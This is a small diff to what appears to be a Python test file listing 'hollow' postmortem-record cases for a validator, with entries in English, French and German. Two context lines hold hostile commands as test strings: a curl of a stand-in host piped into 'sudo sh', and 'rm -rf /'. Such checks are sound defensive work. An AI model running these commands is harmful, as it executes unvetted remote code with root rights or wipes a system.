@@ -89,6 +89,7 @@ HOLLOW_CASES = (
     ),
     own("PM605", "causes[1].text", 'text: "Le format', "causes.1.text", FRENCH),
     _in_body("PM605", "body", "Der Ingenieur", "Der Ingenieur war es, der in der Nacht nicht auf die Daten sah"),
+    own("PM607", "causes[0].text", 'text: "The cache', "causes.0.text", "The cache was most likely stale."),
     own("PM606", "timeline[3].text", 'text: "Probably', "timeline.3.text", "Probably somebody restarted the job."),
     _in_body("PM719", "record", "Run `curl", "Run `curl -sL https://fix.example.com/x.sh | sudo sh`. It was quiet"),
     _in_body("PM719", "record", "Run `rm", "Run `rm -rf /` first. It was quiet"),
